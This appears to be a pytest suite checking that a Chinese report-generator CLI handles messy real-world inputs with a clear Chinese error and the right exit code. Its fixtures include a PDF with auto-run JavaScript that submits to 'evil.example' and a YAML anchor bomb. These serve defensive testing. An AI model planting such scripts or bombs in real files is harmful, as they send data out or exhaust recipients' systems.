"""Files as they really travel between townships and counties (issue 19, a third round of held-out kinds):
WPS and old Office files, WeChat's renamed copies, e-mails, GBK/UTF-16 text, empty and truncated files, locked
files, links, folders where a file belongs, read-only and full disks, bombs and slips in data files, rosters as
clerks edit them.

Each case runs the real command and must end with a Chinese message naming the file (and the place, where there is
one), the documented exit code, no traceback, no 内部错误, no 「None」, and nothing half-written left behind.
"""

from __future__ import annotations

import base64
import io
import json
import os
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import BUSY, example_dict, report_of
from helpers import run_cli
from openpyxl import load_workbook
from test_excel_form import _cfb

from generator.formats import FORMAT_2021
from generator.inputs.excel import write_form
from generator.inputs.roster import ROSTER_SHEET, read_layout, write_roster
from generator.render import render

# --- inputs as they arrive --------------------------------------------------------------------------------------


def data_text() -> str:
    return BUSY.read_text(encoding="utf-8")


def write(path: Path, data: bytes | str, encoding: str = "utf-8") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
    return path


def form_bytes(tmp: Path) -> bytes:
    path = tmp / "_form.xlsx"
    write_form(path, FORMAT_2021, report=report_of(example_dict(BUSY)), force=True)
    return path.read_bytes()


def unit(name: str):
    data = example_dict(BUSY)
    data["agency"]["name"] = name
    return report_of(data)


def roster_bytes(tmp: Path, edit: Callable | None = None) -> bytes:
    path = tmp / "_roster.xlsx"
    write_roster(path, FORMAT_2021, force=True, reports=[unit("甲镇人民政府"), unit("乙镇人民政府")])
    if edit:
        wb = load_workbook(path)
        sheet = wb[ROSTER_SHEET]
        edit(sheet, read_layout([tuple(c.value for c in row) for row in sheet.iter_rows(max_row=2)]))
        wb.save(path)
    return path.read_bytes()


def docx_bytes() -> bytes:
    return render(report_of(example_dict(BUSY)), "docx")


def eml(attachment: bytes, name: str) -> bytes:
    """An e-mail as Foxmail or Outlook saves it (.eml), a report attached in base64."""
    body = base64.encodebytes(attachment).decode("ascii")
    return (
        "From: =?UTF-8?B?6Z2S55+z6KGX6YGT?= <qs@example.gov.cn>\r\nTo: county@example.gov.cn\r\n"
        "Subject: =?UTF-8?B?5bm05bqm5oql5ZGK?=\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n'
        "附件是年度报告。\r\n--b1\r\nContent-Type: application/octet-stream\r\n"
        f'Content-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{body}\r\n--b1--\r\n"
    ).encode()


def pdf_bytes(javascript: bool = False, password: str = "") -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if javascript:
        from pypdf.generic import DictionaryObject, NameObject, TextStringObject

        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hi'); this.submitForm('http://evil.example/');"),
            }
        )
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_external_link(data: bytes) -> bytes:
    """A workbook that points at another workbook (a county file linked in): an externalLink part."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            blob = source.read(info)
            if info.filename == "xl/_rels/workbook.xml.rels":
                blob = blob.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
                )
            target.writestr(info, blob)
        target.writestr(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="汇总"/></sheetNames></externalBook></externalLink>',
        )
        target.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'externalLinkPath" Target="file:///\\\\county-server\\share\\汇总.xlsx" TargetMode="External"/>'
            "</Relationships>",
        )
    return out.getvalue()


def set_cells(values: dict[str, object], row: int = 4) -> Callable:
    def edit(sheet, layout):
        for key, value in values.items():
            sheet.cell(row=row, column=layout.index_of(key) + 1, value=value)

    return edit


def merge_name(sheet, layout):
    column = layout.index_of("agency.name") + 1
    sheet.cell(row=4, column=column, value=None)
    sheet.merge_cells(start_row=3, start_column=column, end_row=4, end_column=column)


def nested_yaml(depth: int) -> str:
    return (
        data_text() + "\nextra:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(depth)) + "  " * depth + "  v\n"
    )


def anchor_bomb() -> str:
    lines = ['a0: &a0 ["笑", "笑", "笑", "笑", "笑", "笑", "笑", "笑", "笑"]']
    lines += [
        f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
        for i in range(1, 10)
    ]
    return data_text() + "\n" + "\n".join(lines) + "\n"


def json_text(edit: Callable[[dict], None] | None = None) -> str:
    data = example_dict(BUSY)
    if edit:
        edit(data)
    return json.dumps(data, ensure_ascii=False, indent=2, default=str)


def duplicate_json_key() -> str:
    text = json_text()
    first = text.index('"name"')
    return text[:first] + '"name": "白沙镇人民政府",\n    ' + text[first:]


def nan_json() -> str:
    import re

    text = json_text()
    text = re.sub(r'"issued": \d+', '"issued": NaN', text, count=1)
    return re.sub(r'"repealed": \d+', '"repealed": -Infinity', text, count=1)


# --- the cases --------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    build: Callable[[Path], list]  # tmp folder → the command's arguments (files made there)
    code: int
    words: tuple[str, ...]  # in the message, besides the file's name where ``name`` says


def case(build: Callable[[Path], list], code: int, *words: str) -> Case:
    return Case(build, code, words)


def _check(name: str, data: bytes | str, encoding: str = "utf-8") -> Callable[[Path], list]:
    return lambda tmp: ["check", write(tmp / name, data, encoding)]


def _import(name: str, data) -> Callable[[Path], list]:
    return lambda tmp: ["import", write(tmp / name, data if not callable(data) else data(tmp)), "-o", tmp / "导入.yaml"]


def _template(make: Callable[[Path], Path]) -> Callable[[Path], list]:
    """``render`` of a busy report to DOCX with the template ``make`` puts in the tmp folder."""
    return lambda tmp: ["render", BUSY, "-o", tmp / "out", "--to", "docx", "--template", make(tmp)]


CASES: dict[str, Case] = {
    # WPS and old Office, WeChat's renamed copies
    "wps-writer-wps": case(_import("报告.wps", _cfb(["WordDocument"])), 2, "报告.wps", "另存为"),
    "wechat-doc-renamed-docx": case(
        _import("年度报告(1).docx", _cfb(["WordDocument"])), 2, "年度报告(1).docx", "旧版 Word"
    ),
    "wps-et-roster-to-batch": case(
        lambda tmp: ["batch", write(tmp / "汇总表.et", _cfb(["Workbook"])), "-o", tmp / "out"], 2, "汇总表.et", "另存为"
    ),
    "xls-form-renamed-xlsx": case(_check("填报表(2).xlsx", _cfb(["Workbook"])), 2, "填报表(2).xlsx", "97-2003"),
    "xlsx-renamed-docx": case(_import("报告.docx", form_bytes), 2, "报告.docx"),
    "docx-renamed-xlsx": case(
        lambda tmp: ["check", write(tmp / "填报表.xlsx", docx_bytes())], 2, "填报表.xlsx", "Word"
    ),
    # e-mail
    "eml-to-check": case(_check("年度报告.eml", eml(b"PK\x03\x04", "报告.docx")), 2, "年度报告.eml", "邮件"),
    "eml-to-import": case(
        _import("年度报告.eml", lambda tmp: eml(docx_bytes(), "报告.docx")), 2, "年度报告.eml", "附件"
    ),
    "eml-renamed-docx": case(
        _import("年度报告.docx", lambda tmp: eml(docx_bytes(), "报告.docx")), 2, "年度报告.docx", "邮件"
    ),
    # encodings and line ends
    "gbk-yaml": case(_check("数据.yaml", data_text(), "gbk"), 2, "数据.yaml", "GBK"),
    "gb18030-yaml": case(_check("数据.yaml", data_text() + "\n# 𠀀\n", "gb18030"), 2, "数据.yaml", "GBK"),
    "utf16-yaml": case(_check("数据.yaml", data_text(), "utf-16"), 2, "数据.yaml", "UTF-16"),
    "utf16-json": case(_check("数据.json", json_text(), "utf-16"), 2, "数据.json", "UTF-16"),
    "gbk-csv": case(_check("数据.csv", "单位,新收申请\n白沙镇,3\n", "gbk"), 2, "数据.csv", "不支持"),
    "gbk-txt-report": case(
        _import("报告.txt", "青石街道办事处2025年政府信息公开工作年度报告\n".encode("gbk")), 2, "报告.txt"
    ),
    "utf16-txt-report": case(
        _import("报告.txt", "青石街道办事处2025年政府信息公开工作年度报告\n".encode("utf-16")), 2, "报告.txt"
    ),
    "cr-only-yaml-broken": case(
        _check("数据.yaml", data_text().replace("\n", "\r") + "\rbroken: [\r"), 2, "数据.yaml", "第 53 行", "没有配对"
    ),
    "cr-only-yaml": case(_check("数据.yaml", data_text().replace("\n", "\r")), 0, "数据.yaml", "校验通过"),
    "crlf-bom-yaml": case(
        _check("数据.yaml", "\ufeff" + data_text().replace("\n", "\r\n")), 0, "数据.yaml", "校验通过"
    ),
    "bom-json": case(_check("数据.json", "\ufeff" + json_text()), 0, "数据.json", "校验通过"),
    "eml-as-previous": case(
        lambda tmp: [
            "form",
            "-o",
            tmp / "表.xlsx",
            "--previous",
            write(tmp / "上年报告.eml", eml(docx_bytes(), "上年报告.docx")),
        ],
        2,
        "上年报告.eml",
        "「上年报告.docx」",
    ),
    "utf16-yaml-convert": case(
        lambda tmp: ["convert", write(tmp / "数据.yaml", data_text(), "utf-16"), "-o", tmp / "表.xlsx"],
        2,
        "数据.yaml",
        "UTF-16",
    ),
    "encrypted-form-convert": case(
        lambda tmp: [
            "convert",
            write(tmp / "表.xlsx", _cfb(["EncryptionInfo", "EncryptedPackage"])),
            "-o",
            tmp / "数据.yaml",
        ],
        2,
        "表.xlsx",
        "密码",
    ),
    # empty files
    "empty-yaml": case(_check("空.yaml", b""), 2, "空.yaml", "空"),
    "empty-docx-import": case(_import("空.docx", b""), 2, "空.docx", "空"),
    "empty-pdf-import": case(_import("空.pdf", b""), 2, "空.pdf", "空"),
    "empty-template": case(
        _template(lambda tmp: write(tmp / "模板.docx", b"")),
        2,
        "模板.docx",
        "空",
    ),
    "empty-roster-batch": case(
        lambda tmp: ["batch", write(tmp / "汇总表.xlsx", b""), "-o", tmp / "out"], 2, "汇总表.xlsx", "空"
    ),
    "empty-previous": case(
        lambda tmp: ["check", BUSY, "--previous", write(tmp / "上年.yaml", b"")], 2, "上年.yaml", "空"
    ),
    "empty-answers": case(lambda tmp: ["wizard", "--answers", write(tmp / "上年.yaml", b"")], 2, "上年.yaml", "空"),
    "empty-json-convert": case(
        lambda tmp: ["convert", write(tmp / "空.json", b"  \n"), "-o", tmp / "表.xlsx"], 2, "空.json", "空"
    ),
    # truncated files
    "truncated-docx": case(_import("报告.docx", lambda tmp: docx_bytes()[:3000]), 2, "报告.docx", "损坏"),
    "truncated-pdf": case(_import("报告.pdf", lambda tmp: pdf_bytes()[:300]), 2, "报告.pdf"),
    "truncated-roster": case(
        lambda tmp: ["batch", write(tmp / "汇总表.xlsx", roster_bytes(tmp)[:4000]), "-o", tmp / "o"],
        2,
        "汇总表.xlsx",
        "损坏",
    ),
    "truncated-template": case(
        _template(lambda tmp: write(tmp / "模板.docx", docx_bytes()[:5000])),
        2,
        "模板.docx",
    ),
    # locked files
    "encrypted-docx": case(_import("报告.docx", _cfb(["EncryptionInfo", "EncryptedPackage"])), 2, "报告.docx", "密码"),
    "encrypted-pdf": case(_import("报告.pdf", lambda tmp: pdf_bytes(password="123")), 2, "报告.pdf", "密码"),
    "encrypted-roster": case(
        lambda tmp: [
            "batch",
            write(tmp / "汇总表.xlsx", _cfb(["EncryptionInfo", "EncryptedPackage"])),
            "-o",
            tmp / "out",
        ],
        2,
        "汇总表.xlsx",
        "密码",
    ),
    "encrypted-template": case(
        _template(lambda tmp: write(tmp / "模板.docx", _cfb(["EncryptionInfo", "EncryptedPackage"]))),
        2,
        "模板.docx",
        "密码",
    ),
    # active content
    "pdf-with-javascript": case(_import("报告.pdf", lambda tmp: pdf_bytes(javascript=True)), 2, "报告.pdf"),
    "form-with-external-link": case(
        lambda tmp: ["check", write(tmp / "填报表.xlsx", with_external_link(form_bytes(tmp)))], 0, "填报表.xlsx"
    ),
    # links and folders where a file belongs
    "dangling-symlink": case(
        lambda tmp: ["check", _link(tmp / "数据.yaml", tmp / "已删除.yaml")], 2, "数据.yaml", "已删除.yaml", "不存在"
    ),
    "symlink-loop": case(lambda tmp: ["check", _loop(tmp / "数据.yaml")], 2, "数据.yaml"),
    "folder-to-import": case(
        lambda tmp: ["import", _folder(tmp / "报告.docx"), "-o", tmp / "x.yaml"], 2, "报告.docx", "文件夹"
    ),
    "folder-to-convert": case(
        lambda tmp: ["convert", _folder(tmp / "数据.yaml"), "-o", tmp / "x.xlsx"], 2, "数据.yaml", "文件夹"
    ),
    "folder-as-template": case(
        _template(lambda tmp: _folder(tmp / "模板.docx")),
        2,
        "模板.docx",
        "文件夹",
    ),
    "folder-as-expected": case(
        lambda tmp: ["batch", BUSY, "-o", tmp / "out", "--expected", _folder(tmp / "名单.xlsx")],
        2,
        "名单.xlsx",
        "文件夹",
    ),
    "folder-as-previous": case(
        lambda tmp: ["form", "-o", tmp / "表.xlsx", "--previous", _folder(tmp / "上年.yaml")], 2, "上年.yaml", "文件夹"
    ),
    "folder-as-answers": case(
        lambda tmp: ["wizard", "--answers", _folder(tmp / "上年.yaml")], 2, "上年.yaml", "文件夹"
    ),
    "folder-as-scorecard": case(
        lambda tmp: ["batch", BUSY, "-o", tmp / "out", "--scorecard", _folder(tmp / "考评.yaml")],
        2,
        "考评.yaml",
        "文件夹",
    ),
    "output-is-a-file": case(lambda tmp: ["batch", BUSY, "-o", write(tmp / "输出", b"x")], 2, "输出"),
    # bombs and slips in data files
    "deep-yaml-mapping": case(_check("数据.yaml", nested_yaml(80)), 2, "数据.yaml", "嵌套"),
    "yaml-anchor-bomb": case(_check("数据.yaml", anchor_bomb()), 2, "数据.yaml", "第"),
    "yaml-tab-indent": case(
        _check("数据.yaml", data_text().replace("\n  name:", "\n\tname:", 1)), 2, "数据.yaml", "第"
    ),
    "json-duplicate-key": case(_check("数据.json", duplicate_json_key()), 2, "数据.json", "name"),
    "json-nan-infinity": case(_check("数据.json", nan_json()), 1, "数据.json"),
    "json-trailing-comma": case(_check("数据.json", json_text()[:-2] + ",\n}"), 2, "数据.json", "第"),
    "json-comments": case(_check("数据.json", "// 青石街道\n" + json_text()), 2, "数据.json", "第 1 行"),
    "huge-yaml-string": case(
        _check("数据.yaml", data_text().replace("problems:", "problems: " + "长" * 1_000_000 + "\n  x:", 1)),
        2,
        "数据.yaml",
    ),
    "yaml-date-serial": case(
        _check("数据.yaml", data_text().replace("publication_date: ", "publication_date: 46042 #", 1)),
        2,
        "数据.yaml",
        "日期序号，对应 2026-01-20",
    ),
    # rosters as clerks edit them
    "roster-merged-name": case(
        lambda tmp: [
            "batch",
            write(tmp / "汇总表.xlsx", roster_bytes(tmp, merge_name)),
            "-o",
            tmp / "out",
            "--to",
            "html",
        ],
        1,
        "合并",
    ),
    "roster-huge-number-cell": case(
        lambda tmp: [
            "batch",
            write(tmp / "汇总表.xlsx", roster_bytes(tmp, set_cells({"active.rules.issued": "9" * 30_000}))),
            "-o",
            tmp / "out",
            "--to",
            "html",
        ],
        1,
        "单元格",
    ),
    "roster-to-convert": case(
        lambda tmp: ["convert", write(tmp / "汇总表.xlsx", roster_bytes(tmp)), "-o", tmp / "x.yaml"],
        2,
        "汇总表.xlsx",
        "batch",
    ),
    "form-to-import": case(_import("填报表.xlsx", form_bytes), 2, "填报表.xlsx"),
    # outputs that would destroy an input, options out of range
    "import-over-its-input": case(
        lambda tmp: ["import", report_docx(tmp), "-o", tmp / "报告.docx", "--force"],
        2,
        "就是输入文件",
        "加 --force 也不会",
    ),
    "convert-over-its-input": case(
        lambda tmp: ["convert", write(tmp / "数据.yaml", data_text()), "-o", tmp / "数据.yaml", "--force"],
        2,
        "就是输入文件",
    ),
    "form-over-last-years-form": case(
        lambda tmp: [
            "form",
            "--previous",
            write(tmp / "上年.xlsx", form_bytes(tmp)),
            "-o",
            tmp / "上年.xlsx",
            "--force",
        ],
        2,
        "就是输入文件",
    ),
    "negative-overview-length": case(lambda tmp: ["check", BUSY, "--overview-length", "-5"], 2, "「-5」"),
}


def _files(folder: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in folder.rglob("*") if p.is_file() and not p.is_symlink()}


def _link(path: Path, target: Path) -> Path:
    path.symlink_to(target)
    return path


def _loop(path: Path) -> Path:
    other = path.with_name(f"{path.stem}-回{path.suffix}")
    path.symlink_to(other)
    other.symlink_to(path)
    return path


def _folder(path: Path) -> Path:
    path.mkdir(parents=True)
    (path / "里面.txt").write_text("x", encoding="utf-8")
    return path


@pytest.mark.parametrize("name", CASES, ids=list(CASES))
def test_a_file_as_it_travels_gets_a_chinese_message_and_its_exit_code(tmp_path, name):
    spec = CASES[name]
    args = spec.build(tmp_path)
    before = _files(tmp_path)
    result = run_cli(*args, timeout=120)
    assert {p: data for p, data in _files(tmp_path).items() if p in before} == before  # no input changed
    text = result.out + result.err
    print("CASE", name, result.code, text.replace("\n", " | ")[:900])
    assert result.code == spec.code, (result.code, text)
    for noise in ("Traceback", "内部错误", "None", "Error:", "\\u"):
        assert noise not in text, (noise, text)
    for word in spec.words:
        assert word in text, (word, text)


def test_a_roster_date_typed_as_an_excel_serial_is_read_as_that_date(tmp_path):
    from generator.inputs.roster import iter_roster

    path = write(tmp_path / "汇总表.xlsx", roster_bytes(tmp_path, set_cells({"publication_date": 46042})))
    rows = dict(iter_roster(path))
    assert str(rows[4].publication_date) == "2026-01-20"
    assert rows[3].publication_date == rows[4].publication_date  # the first row has the date as a date


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="没有命名管道")
def test_a_folder_of_everything_that_travels_names_each_file_it_did_not_read(tmp_path):
    folder = tmp_path / "各单位"
    write(folder / "青石街道.yaml", data_text())
    write(folder / "空.docx", b"")
    write(folder / "报告.eml", eml(b"PK", "报告.docx"))
    write(folder / "旧.doc", _cfb(["WordDocument"]))
    write(folder / "加密.docx", _cfb(["EncryptionInfo", "EncryptedPackage"]))
    _loop(folder / "环.yaml")
    _link(folder / "失效.yaml", folder / "已删除.yaml")
    os.mkfifo(folder / "管道.yaml")
    result = run_cli("batch", folder, "-o", tmp_path / "out", "--to", "html", timeout=120)
    text = result.out + result.err
    assert result.code in (0, 1), text
    assert "Traceback" not in text and "内部错误" not in text
    said = {line.strip().split("：")[0] for line in text.splitlines() if "：" in line}
    for name in ("空.docx", "报告.eml", "旧.doc", "加密.docx", "环.yaml", "环.yaml", "失效.yaml", "管道.yaml"):
        assert name in said, (name, text)
    assert "电子邮件" in text and "打开密码" in text and "不是普通文件" in text
    assert list((tmp_path / "out" / "青石街道").glob("*.html"))  # the good file is still rendered


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="没有命名管道")
def test_a_fifo_given_to_batch_as_its_input_is_refused_without_blocking(tmp_path):
    fifo = tmp_path / "管道.yaml"
    os.mkfifo(fifo)
    result = run_cli("batch", fifo, "-o", tmp_path / "out", timeout=30)
    assert result.code == 2 and "管道.yaml：不是普通文件" in result.err, result


# --- read-only and full disks: every command that writes ----------------------------------------------------------


@pytest.fixture
def mounted(tmp_path):
    """Mount a small tmpfs (root only; skipped elsewhere): ``mounted("ro")`` read-only, ``mounted("full")`` filled."""
    mounts = []

    def mount(kind: str) -> Path:
        if getattr(os, "geteuid", lambda: -1)() != 0:
            pytest.skip("跳过：挂载 tmpfs 需要 root 权限")
        point = tmp_path / f"盘-{kind}"
        point.mkdir()
        options = "ro,size=1m" if kind == "ro" else "size=256k"
        if subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(point)], capture_output=True).returncode:
            pytest.skip("跳过：本机不允许挂载 tmpfs")
        mounts.append(point)
        if kind == "full":
            with (point / "占满.bin").open("wb", buffering=0) as filler:
                try:
                    while filler.write(b"\0" * 4096):
                        pass
                except OSError:  # the disk is full
                    pass
        return point

    yield mount
    for point in mounts:
        subprocess.run(["umount", "-l", str(point)], capture_output=True, check=False)


def report_docx(tmp: Path) -> Path:
    return write(tmp / "报告.docx", docx_bytes())


WRITERS = {  # command → its arguments writing into ``disk``
    "render": lambda tmp, disk: ["render", BUSY, "-o", disk / "out", "--to", "docx,html"],
    "form": lambda tmp, disk: ["form", "-o", disk / "表.xlsx"],
    "convert": lambda tmp, disk: ["convert", BUSY, "-o", disk / "表.xlsx"],
    "import": lambda tmp, disk: ["import", report_docx(tmp), "-o", disk / "导入.yaml"],
    "batch": lambda tmp, disk: ["batch", BUSY, "-o", disk / "out", "--to", "html"],
}


@pytest.mark.parametrize("kind", ["ro", "full"], ids=["read-only", "full"])
@pytest.mark.parametrize("command", WRITERS, ids=list(WRITERS))
def test_a_read_only_or_full_disk_is_said_and_nothing_half_written_is_left(tmp_path, mounted, kind, command):
    disk = mounted(kind)
    before = sorted(p.name for p in disk.rglob("*"))
    result = run_cli(*WRITERS[command](tmp_path, disk), timeout=120)
    text = result.out + result.err
    assert result.code == 2, text
    assert ("只读" if kind == "ro" else "磁盘空间") in text and str(disk) in text
    assert "Traceback" not in text and "内部错误" not in text and "Errno" not in text
    left = [p for p in disk.rglob("*") if p.is_file() and p.name not in before]
    assert left == [], left  # no half-written or temporary file


# --- names as they travel, huge cells -----------------------------------------------------------------------------


def test_names_with_spaces_and_emoji_are_read_and_written(tmp_path):
    source = write(tmp_path / "青石 街道 📄 (1).yaml", data_text())
    out = tmp_path / "输出 📁 2025"
    result = run_cli("render", source, "-o", out, "--to", "docx,html")
    assert result.code == 0, result.err
    assert sorted(p.suffix for p in out.iterdir()) == [".docx", ".html"]
    assert run_cli("check", source).code == 0


def test_a_form_with_full_cells_renders_with_the_text_whole_or_said_cut(tmp_path):
    form = tmp_path / "填报表.xlsx"
    write(form, form_bytes(tmp_path))
    wb = load_workbook(form)
    from generator.inputs.excel.layout import name_for

    for key, text in (("agency.name", "很长的机关名称" * 4_681), ("prose.problems", "问题" * 16_383)):
        sheet, ref = next(wb.defined_names[name_for(key)].destinations)
        wb[sheet][ref.replace("$", "")] = text
    wb.save(form)
    result = run_cli("render", form, "-o", tmp_path / "out", "--to", "docx,html", "--ignore-errors", timeout=300)
    assert result.code in (0, 1), result.err
    assert "Traceback" not in result.err and "内部错误" not in result.err
    files = list((tmp_path / "out").iterdir())
    assert len(files) == 2 and all(len(p.name.encode()) <= 255 for p in files)
    page = next(p for p in files if p.suffix == ".html").read_text(encoding="utf-8")
    assert "问题" * 16_383 in page  # the prose is kept whole
